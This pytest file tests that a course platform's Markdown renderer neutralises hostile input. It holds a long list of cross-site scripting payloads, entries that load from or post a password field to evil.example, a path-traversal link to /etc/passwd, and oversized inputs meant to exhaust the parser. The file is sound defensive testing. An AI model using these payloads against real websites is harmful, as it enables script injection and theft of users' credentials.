"""Tests that no text, however it is meant, runs a script, loads from elsewhere or breaks the page."""

import re
from collections.abc import Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.curriculum.small_course import course_with, html_of, rendered, section
from trainer.curriculum.markup import MarkdownEngine

OUR_LINKS = ("/learn/", "/glossary#", "/references#", "/simulator?", "#", "https://", "mailto:")
VOID = frozenset({"br", "hr", "img", "track"})
PLAYERS = frozenset({"video", "audio", "track", "details", "summary"})
"""What the program makes of a recording's path, and never of an author's own HTML."""
NEVER = frozenset(
    {
        *("script", "iframe", "object", "embed", "form", "base", "meta", "svg", "style", "input", "button", "select"),
        *("source", "link", "textarea", "noscript", "template", "frame", "frameset", "body", "html"),
        *("annotation-xml", "maction", "semantics", "main", "section", "xmp", "plaintext"),
    }
)


TAG = re.compile(r'<(?P<closing>/?)(?P<name>[a-z][a-z0-9]*)(?P<attributes>(?: [a-z-]+="[^"]*")*)>')
ATTRIBUTE = re.compile(r' ([a-z-]+)="([^"]*)"')


def faults(html: str) -> list[str]:
    """What is wrong with HTML: what is not plainly a tag or text, what is not nested, what may not stand."""
    wrong: list[str] = []
    still_open: list[str] = []
    for tag in TAG.finditer(html):
        name = tag["name"]
        if tag["closing"]:
            wrong += [] if still_open and still_open.pop() == name else [f"</{name}> closes something else"]
            continue
        wrong += [f"<{name}>"] if name in NEVER else []
        wrong += [fault for found in ATTRIBUTE.findall(tag["attributes"]) for fault in _faults_of(name, *found)]
        still_open += [] if name in VOID else [name]
    wrong += [f"a bare '<' in {html!r}"] if "<" in TAG.sub("", html) else []
    return wrong + [f"<{name}> is never closed" for name in still_open]


def _faults_of(tag: str, name: str, value: str) -> Iterator[str]:
    whole = f"<{tag} {name}={value}>"
    if name.startswith("on") or name in {"style", "srcdoc", "action", "formaction", "background", "name"}:
        yield whole
    if name in {"src", "srcset", "poster", "data"} and not value.startswith(("/media/", "/simulator/chart.svg?")):
        yield whole
    if name.endswith("href") and not value.startswith(OUR_LINKS):
        yield whole
    if name == "id" and not value.startswith(("fn-", "fnref-")):
        yield whole


RUNS_A_SCRIPT = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT >",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<details open ontoggle=alert(1)>",
    "<kbd onclick=alert(1)>x</kbd>",
    "<sub\nonmouseover=alert(1)>x</sub>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java\\script:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](feed:javascript:alert(1))",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '[x](https://example.org/"onclick="alert(1))',
    '[x](<https://example.org/" onclick="alert(1)>)',
    '[x](https://example.org "onclick=alert(1)")',
    '<https://example.org/"onclick="alert(1)>',
    '![" onerror="alert(1)](../figures/routes.svg)',
    '![x](../figures/routes.svg "\\"><script>alert(1)</script>")',
    "**x**{onclick=alert(1)}",
    "[x](https://example.org){onclick=alert(1)}",
    "### x {#a onclick=alert(1)}",
    "x\n{: onclick=alert(1) }",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{</mtext></math><img src=x onerror=alert(1)>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{&lt;script&gt;}$",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '[^"><script>alert(1)</script>]',
    '[^"onx="]\n\n[^"onx="]: y',
    "> [!safety] <script>alert(1)</script>",
    '> [!note"onclick="x]',
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '[@zanos2018"><script>alert(1)</script>]',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "\\<script>alert(1)\\</script>",
    "*<script>*alert(1)</script>",
]
LOADS_OR_BREAKS = [
    "<style>*{background:url(https://evil.example)}</style>",
    "<div style='background:url(//evil.example)'>x</div>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=password></form>",
    "<video src=//evil.example>",
    "![x](https://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    "![x](/\\evil.example/x.png)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](../../../../etc/passwd)",
    "[x](/admin/delete)",
    "<a name=content id=main>x</a>",
    "<p id=search class=callout>x</p>",
    "### x {#main}",
    "<div>",
    "<div><p><b>",
    "</div></div></main></body></html>",
    "</section>",
    "<sub><sup>x</sub></sup>",
    "<sub>x",
    "x</kbd>",
    "<table><tr><td>",
    "<textarea><xmp><plaintext>",
    "<!-- never closed",
    "x <!-- never closed",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE html>",
    "\ue0000\ue001 \ue001\ue000 \ue00099999\ue001",
    "&#xE000;0&#xE001; &#57344;0&#57345;",
    "\x02klzzwxh:0000\x03 \x02wzxhzdk:0\x03",
    "\x00\x0b\x0c\x1b\x7f\ufffe",
    "> " * 1000 + "deep",
    "\n".join("  " * depth + "- deep" for depth in range(300)),
    "**a " * 500 + "b** " * 500,
    "```",
    "$$",
    "| a |\n|---|\n" + "| b |\n" * 500,
]


@pytest.mark.parametrize("text", RUNS_A_SCRIPT + LOADS_OR_BREAKS)
@pytest.mark.parametrize("frame", ["{}", "> {}", "- {}", "Words {} words", "| a |\n|---|\n| {} |", "> [!note] T\n> {}"])
def test_an_attack_becomes_text(text: str, frame: str) -> None:
    html = section(frame.replace("{}", text))[0]
    assert faults(html) == []
    assert {tag["name"] for tag in TAG.finditer(html)} & PLAYERS == set()


@pytest.mark.parametrize("text", RUNS_A_SCRIPT + LOADS_OR_BREAKS)
def test_an_attack_on_the_door_itself_finds_it_closed(text: str) -> None:
    cleaned = MarkdownEngine().clean(text)
    assert [fault for fault in faults(cleaned) if "https://" not in fault] == []


@pytest.mark.parametrize(
    "title", ["<script>x</script>", "a {#b} onclick=x", '"><img src=x onerror=y>', "$\\text{<b>}$"]
)
def test_a_title_is_as_safe_as_the_text(title: str) -> None:
    module, _ = rendered(f"## {title} {{#peak}}\n")
    assert faults(module.sections[0].title) == []


LONG = {
    "brackets": "[" * 15_000 + "]" * 15_000,
    "nested links": "[" * 1_000 + "x" + "](https://example.org)" * 1_000,
    "half links": "![a](" * 6_000,
    "stars": "*_" * 10_000,
    "backticks": " ".join("`" * length for length in range(1, 240)),
    "dollars": "$a " * 10_000,
    "angles": "<a <!--" * 4_000,
    "tags": "<sub>" * 6_000,
    "spaces": "[a](" + " " * 25_000 + "b",
    "heading of spaces": "### a" + " " * 25_000 + "b",
    "rows": "|\n" * 15_000,
    "fences": "```\na\n```\n" * 600,
    "unknown sources": "".join(f"[@k{number}]" for number in range(3_000)),
    "quotes in lists": "\n".join("> " * (number % 12) + "- a" for number in range(1_000)),
    "formula": "$" + "{" * 900 + "}" * 900 + "$",
    "a book": "a\n\n" * 50_000,
}


@pytest.mark.parametrize("text", LONG.values(), ids=LONG.keys())
def test_an_endless_text_ends(text: str) -> None:
    written, _ = section(text)
    assert faults(written) == []


PARTS = [
    *("<", ">", "</", "<!--", "-->", "&#", "&lt;", ";", '"', "'", "=", "script", "img src=x onerror=y", "sub>", "kbd>"),
    *(
        "[",
        "](",
        ")",
        "![",
        "[^a]",
        "[@zanos2018]",
        "{#a}",
        "{{a}}",
        "`",
        "``",
        "```\n",
        "$",
        "$$",
        "\\",
        "\\text{",
        "}",
    ),
    *("*", "**", "_", "> ", "> [!note] ", "- ", "1. ", "    ", "  ", "\n", "\n\n", "|", "|---|\n", ": ", "# ", "### "),
    *(
        "javascript:",
        "https://example.org",
        "../glossary.yml#troche",
        "../figures/routes.svg",
        "\ue000",
        "0",
        "\ue001",
        "x ",
    ),
]


@settings(max_examples=100, deadline=None)
@given(st.lists(st.sampled_from(PARTS), max_size=40).map("".join))
def test_no_mixture_of_marks_breaks_the_page(text: str) -> None:
    assert faults(section(f"Text.\n\n{text}")[0]) == []


def test_notes_and_titles_hold_nothing_unsafe_either() -> None:
    module, _ = rendered("Opening <script>.\n\n## A {#a}\n[x](../glossary.yml#norketamine) [@zanos2018]\n")
    notes = "".join(note.html for note in module.sections[0].notes)
    assert faults(notes + html_of(module.opening) + "".join(source.html for source in module.sources)) == []
    assert course_with("## A {#a}\n").modules["pharmacology/routes"].opening.text == ""
